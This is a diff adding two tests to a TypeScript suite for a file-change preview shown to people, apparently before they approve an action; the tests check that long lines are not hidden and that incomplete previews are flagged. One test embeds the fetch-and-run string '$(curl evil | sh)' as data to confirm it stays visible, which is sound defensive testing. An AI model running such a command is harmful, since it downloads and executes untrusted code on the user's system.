@@ -43,6 +43,23 @@ describe('what a call would change, as people are shown it', () => {
     ]);
   });
 
+  it('shows the middle of a long line too', () => {
+    const added = [`${'x'.repeat(500)}$(curl evil | sh)${'y'.repeat(500)}`];
+    const lines = previewLines(shown({ before: FILE, after: FILE, diff: [{ line: 1, removed: [], added }] }));
+    expect(lines.map((line) => line.slice(4)).join('')).toContain('$(curl evil | sh)');
+    expect(lines.slice(3).every((line) => line.startsWith('  +│'))).toBe(true);
+    const path = `${'a'.repeat(150)}/evil/${'b'.repeat(150)}`;
+    expect(previewLines(shown({ after: FILE, path }))).toEqual([`New: /r/${path}`]);
+  });
+
+  it('is not whole where contents or paths are left out', () => {
+    const whole = question({ preview: shown({ after: FILE }) });
+    expect(promptText(whole).isWhole).toBe(true);
+    for (const note of ['binary', 'large'] as const)
+      expect(promptText(question({ preview: shown({ after: FILE, note }) })).isWhole).toBe(false);
+    expect(promptText(question({ preview: { ...shown({ after: FILE }), more: 1 } })).isWhole).toBe(false);
+  });
+
   it('says what is left out, that nothing changes, and that there is no preview', () => {
     expect(previewLines({ digest: 'd', changes: [], more: 0 })).toEqual(['Changes no files']);
     expect(previewLines({ problem: 'no sandbox' })).toEqual(['No preview of file changes: no sandbox']);
